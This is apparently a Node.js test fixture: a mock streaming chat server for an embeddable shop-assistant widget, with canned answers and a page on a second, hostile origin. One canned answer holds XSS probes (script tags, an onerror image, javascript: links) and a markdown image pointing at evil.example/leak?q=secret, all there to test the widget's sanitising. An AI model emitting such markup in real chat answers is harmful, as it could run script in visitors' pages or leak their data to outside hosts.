// A scripted visitor chat server, and pages with the widget: the demonstration shop and a hostile one. No C++ needed.
// `node tests/browser/widget_server.mjs [port]` serves it for manual tests; tests call startWidgetServer().
//
// The response depends on the question: see `answers` and `scenarios` below.

import { createServer } from 'node:http';
import { randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { setTimeout as sleep } from 'node:timers/promises';
import { bundleWidget } from '../../web/widget/build.mjs';
import { hostilePage, hostileHeaders, hostileFiles } from './hostile_page.mjs';

const shop = new URL('../../examples/shop/', import.meta.url);
const types = { html: 'text/html; charset=utf-8', css: 'text/css; charset=utf-8', js: 'text/javascript; charset=utf-8', svg: 'image/svg+xml' };

/** The headers that the C++ server sends with the shop. */
export const shopPolicy = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; " +
  "base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types 'none'";

const demoAgent = {
  id: 'agt_demo', name: 'Shop demo', persona: { name: 'Thistle' },
  theme: { accent: '#1f4a3b', accent_text: '#ffffff', position: 'right', title: 'Ask Tarn & Thistle', logo_url: '' },
  starter_prompts: ['How long do I have to send things back?', 'What does shipping to Norway cost?', 'Can the Cairn boots be resoled?'],
  language: 'en',
};

const citation = (id, url, title, support = 'supported', start = 120, end = 188) => ({ id, url, title, start, end, support });
const pieces = (text) => text.match(/\S+\s*|\s+/g) ?? [];

const returns = (base) => ({
  text: 'You have **60 days** to send back what you do not like [1]. It must not have been used outdoors, and it needs its labels [1].\n\n' +
    'Returns from Germany are free; from other countries a label costs € 7.90, which is taken from the refund [1]. The parcel’s way to us takes as long as [shipping](' +
    `${base}/demo/shop/shipping.html) to you [2].`,
  citations: [citation(1, `${base}/demo/shop/returns.html`, 'Returns and refunds'), citation(2, `${base}/demo/shop/shipping.html`, 'Shipping', 'supported', 40, 96)],
});

const long = (base) => ({
  text: '## Sending something in\n\nHere is what to do, step by step [1]:\n\n1. **Clean it first.** We do not work on dirty gear, and washing it here costs € 20.00 [1].\n' +
    '2. Put a note in the parcel:\n   - say what is broken\n   - mark the place with tape\n3. Wait for the price. You get it *before* we begin [1].\n\n' +
    '| Repair | Price | Time |\n|---|---|---|\n| Patch on a tent or jacket | € 15.00 | 1 week |\n| Whole zip | € 48.00 | 2 weeks |\n| Pair of soles | € 75.00 | 3 weeks |\n\n' +
    '> The warranty covers faults of cloth, seams, zips and poles for five years.\n\nAn order number looks like `TT-2041-88`. In an e-mail write:\n\n' +
    '```\nSubject: repair TT-2041-88\nItem: Lantern 2 tent, groundsheet torn at the door, about 12 cm along the seam\n```\n\n---\n\nSoles can be replaced twice [2].',
  citations: [citation(1, `${base}/demo/shop/repairs.html`, 'Repairs and warranty'), citation(2, `${base}/demo/shop/cairn-boots.html`, 'Cairn hiking boots', 'supported', 300, 340)],
});

const hostileAnswer = (base) => ({
  text: '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script> ![pixel](https://evil.example/leak?q=secret) ' +
    '[click](javascript:window.pwned=1) [prize](https://evil.example/win) https://evil.example/auto [data](data:text/html,x) ' +
    `[good](${base}/demo/shop/returns.html) [mail](mailto:a@evil.example) [1] [2] [3] [9]`,
  citations: [citation(1, `${base}/demo/shop/returns.html`, '<b>Returns</b>'), citation(2, 'javascript:window.pwned=1', ''),
    { id: 3, url: '', title: 'A file', start: null, end: null, support: 'unchecked' }],
});

/** Question -> the answer and how it is sent. */
const answers = {
  'widget: long': long,
  'widget: hostile': hostileAnswer,
  'widget: uncertain': (base) => ({ ...returns(base), text: 'Perhaps 60 days [1].', done: { low_confidence: true, truncated: true },
    citations: [citation(1, 'https://elsewhere.example/policy', 'A page elsewhere', 'unsupported')] }),
  'widget: unknown': () => ({ text: 'I don’t know: the pages of this site don’t say.', citations: [], done: { outcome: 'unknown', low_confidence: true, confidence: 0.3 } }),
  'widget: arabic': (base) => ({ text: 'لديك **60 يوما** لإرجاع ما لا يعجبك [1]. الإرجاع من ألمانيا مجاني.', citations: returns(base).citations.slice(0, 1) }),
  'widget: error': () => ({ text: 'You have ', citations: [], error: 'llm_failed' }),
  'widget: endless': () => ({ text: 'word '.repeat(20_000), citations: [], pace: 20 }),
};

/** Question -> a response without a stream: [status, code, headers]. */
const refusals = {
  'widget: quota': [429, 'message_quota_exceeded', { 'retry-after': '300' }],
  'widget: overloaded': [503, 'overloaded', { 'retry-after': '2' }],
};

const readBody = async (request) => {
  const parts = [];
  for await (const part of request) parts.push(part);
  return JSON.parse(Buffer.concat(parts).toString('utf8') || '{}');
};

class Door {
  constructor(state) {
    this.state = state;
    this.turns = new Map();
    this.visitors = new Map(); // token -> {conversation, messages}
  }

  fail(response, status, code, headers = {}) {
    response.writeHead(status, { 'content-type': 'application/json', ...headers });
    response.end(JSON.stringify({ error: { code, message: code } }));
  }

  async handle(request, response, path) {
    response.setHeader('vary', 'Origin');
    if (request.headers.origin) response.setHeader('access-control-allow-origin', request.headers.origin);
    if (request.method === 'OPTIONS') {
      response.writeHead(204, {
        'access-control-allow-methods': 'GET, POST', 'access-control-allow-headers': 'authorization, content-type, last-event-id', 'access-control-max-age': '600',
      });
      return response.end();
    }
    if (path === '/init') return this.init(request, response);
    const token = /^Bearer (.+)$/.exec(request.headers.authorization ?? '')?.[1];
    if (!token) return this.fail(response, 401, 'missing_token');
    const visitor = this.visitors.get(token);
    if (!visitor || visitor.expired) return this.fail(response, 401, 'invalid_token');
    if (path === '/messages/stream') return this.ask(request, response, visitor);
    const [, id, what] = /^\/messages\/([^/]+)\/(stream|stop|feedback)$/.exec(path) ?? [];
    const turn = this.turns.get(id);
    if (what === 'feedback') {
      const body = await readBody(request);
      this.state.feedback.push({ id, ...body });
      if (this.state.failFeedback) return this.fail(response, 503, 'overloaded');
      for (const message of visitor.messages) if (message.message_id === id && message.role === 'assistant') message.feedback = body.rating;
      response.writeHead(204);
      return response.end();
    }
    if (!turn) return this.fail(response, 404, 'message_not_found');
    if (what === 'stop') {
      this.state.stops.push(id);
      turn.stopped = true;
      response.writeHead(204);
      return response.end();
    }
    this.state.resumes.push({ id, last: request.headers['last-event-id'] });
    if (this.state.resumeFails > 0) {
      this.state.resumeFails -= 1;
      return response.socket.destroy();
    }
    if (turn.gone) return this.fail(response, 404, 'message_not_found');
    return this.stream(response, turn, Number(request.headers['last-event-id']));
  }

  async init(request, response) {
    const body = await readBody(request);
    this.state.inits.push({ ...body, origin: request.headers.origin });
    if (this.state.initFails) {
      const [status, code] = this.state.initFails;
      return this.fail(response, status, code);
    }
    if (body.agent_id !== this.state.agent.id) return this.fail(response, 404, 'agent_not_found');
    if (this.state.slowInit) await sleep(this.state.slowInit);
    if (body.token && this.state.forgetTokens) return this.fail(response, 401, 'invalid_token');
    const earlier = this.visitors.get(body.token);
    const visitor = earlier ? { ...earlier, expired: false } : { conversation: randomUUID(), id: randomUUID(), messages: [] };
    const token = randomUUID();
    this.visitors.set(token, visitor);
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(JSON.stringify({
      conversation_id: visitor.conversation, visitor_id: visitor.id, token, expires_at: new Date(Date.now() + 3_600_000).toISOString(), agent: this.state.agent,
      limits: { message_chars_max: 4000, page_context_bytes_max: 8192 }, messages: visitor.messages.slice(-30),
    }));
  }

  /** Expires all tokens; an expired token can be exchanged for a new one. */
  expireTokens() {
    for (const [token, visitor] of this.visitors) this.visitors.set(token, { ...visitor, expired: true });
  }

  async ask(request, response, visitor) {
    const body = await readBody(request);
    this.state.asked.push(body);
    const refusal = refusals[body.message];
    if (refusal) return this.fail(response, ...refusal);
    const { base, pace } = this.state;
    const answer = (answers[body.message] ?? returns)(base);
    const id = `msg_${randomUUID()}`;
    const turn = { id, events: [], wake: new Set(), over: false, cutAfter: this.state.cutAfter };
    this.state.cutAfter = undefined;
    this.turns.set(id, turn);
    void this.run(turn, body.message, answer, visitor, answer.pace ?? pace);
    return this.stream(response, turn, 0);
  }

  async run(turn, question, { text, citations, error, done = {} }, visitor, pace) {
    const put = (event) => {
      turn.events.push(event);
      for (const wake of turn.wake) wake();
    };
    const names = { conversation_id: visitor.conversation, message_id: turn.id };
    put({ event: 'start', ...names });
    put({ event: 'stage', stage: 'searching' });
    await this.state.beforeAnswer;
    await sleep(pace * 4);
    put({ event: 'stage', stage: 'thinking' });
    await sleep(pace * 2);
    let said = '';
    for (const token of pieces(text)) {
      if (turn.stopped) break;
      put({ event: 'token', token });
      said += token;
      await sleep(pace);
    }
    await this.state.beforeDone;
    if (error) put({ event: 'error', code: error, message: 'It failed.' });
    else {
      if (!turn.stopped) put({ event: 'citations', citations });
      visitor.messages.push({ role: 'user', message_id: turn.id, content: question, citations: [], feedback: null },
        { role: 'assistant', message_id: turn.id, content: said, citations, feedback: null });
      put({ event: 'done', ...names, confidence: 0.83, low_confidence: false, latency_ms: 412, outcome: turn.stopped ? 'stopped' : 'answer', ...done });
    }
    turn.over = true;
    for (const wake of turn.wake) wake();
  }

  async stream(response, turn, from) {
    response.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache, no-transform', 'x-accel-buffering': 'no' });
    response.write(': ok\n\n');
    let open = true;
    response.on('close', () => {
      open = false;
      if (!response.writableEnded) this.state.aborted += 1;
      wake();
    });
    let wake = () => {};
    turn.wake.add(() => wake());
    for (let at = from; open; at++) {
      while (open && at >= turn.events.length && !turn.over) await new Promise((resolve) => { wake = resolve; });
      if (at >= turn.events.length || !open) break;
      if (turn.cutAfter === at) {
        turn.cutAfter = undefined;
        await this.state.beforeCut;
        response.destroy();
        return;
      }
      response.write(`id: ${at + 1}\ndata: ${JSON.stringify(turn.events[at])}\n\n`);
    }
    response.end();
  }
}

async function serveFile(response, name, state) {
  const file = name === '' ? 'index.html' : name;
  const type = types[file.split('.').at(-1)];
  if (!/^[\w.-]+$/.test(file) || !type) return false;
  try {
    const bytes = await readFile(new URL(`${file.endsWith('.html') ? 'pages' : 'look'}/${file}`, shop));
    response.writeHead(200, { 'content-type': type, 'content-security-policy': state.shopPolicy });
    response.end(bytes);
    return true;
  } catch {
    return false;
  }
}

async function handle(request, response, door, script) {
  const { state } = door;
  const { pathname } = new URL(request.url, 'http://fixture');
  if (pathname.startsWith('/api/v1/widget/')) return door.handle(request, response, pathname.slice('/api/v1/widget'.length));
  if (pathname === '/widget.js') {
    response.writeHead(200, { 'content-type': types.js, 'cross-origin-resource-policy': 'cross-origin' });
    return response.end(script);
  }
  if (pathname.startsWith('/demo/shop/') && (await serveFile(response, pathname.slice('/demo/shop/'.length), state))) return undefined;
  if (pathname === '/hostile') {
    response.writeHead(200, { 'content-type': types.html, ...hostileHeaders(state.widgetOrigin) });
    return response.end(hostilePage(state.widgetOrigin));
  }
  const hostile = hostileFiles[pathname];
  if (hostile) {
    response.writeHead(200, { 'content-type': types[pathname.split('.').at(-1)] });
    return response.end(hostile);
  }
  response.writeHead(404, { 'content-type': 'text/plain' });
  return response.end('nothing here');
}

/**
 * Starts the server with the shop, and the hostile page on another origin. Tests may change `state` while they run (pace, agent,
 * initFails, slowInit, forgetTokens, cutAfter, resumeFails, beforeAnswer, beforeCut, beforeDone); it also records requests.
 */
export async function startWidgetServer({ port = 0, pace = 4 } = {}) {
  const script = await bundleWidget();
  const state = {
    pace, agent: structuredClone(demoAgent), shopPolicy, initFails: undefined, cutAfter: undefined, resumeFails: 0, failFeedback: false, slowInit: 0, forgetTokens: false,
    beforeAnswer: undefined, beforeCut: undefined, beforeDone: undefined, asked: [], inits: [], stops: [], resumes: [], feedback: [], aborted: 0,
  };
  const door = new Door(state);
  const listen = (on) => {
    const server = createServer((request, response) => handle(request, response, door, script).catch((error) => {
      console.error(error);
      response.destroy();
    }));
    return new Promise((resolve) => server.listen(on, '127.0.0.1', () => resolve(server)));
  };
  const servers = [await listen(port), await listen(0)];
  const [url, hostileUrl] = servers.map((server) => `http://127.0.0.1:${server.address().port}`);
  Object.assign(state, { base: url, widgetOrigin: url });
  const close = () => {
    for (const turn of door.turns.values()) turn.stopped = true;
    return Promise.all(servers.map((server) => new Promise((resolve) => {
      server.close(resolve);
      server.closeAllConnections();
    })));
  };
  return { url, hostileUrl, state, door, close };
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const { url, hostileUrl } = await startWidgetServer({ port: Number(process.argv[2] ?? 7798), pace: 40 });
  console.log(`shop: ${url}/demo/shop/  hostile page: ${hostileUrl}/hostile`);
}
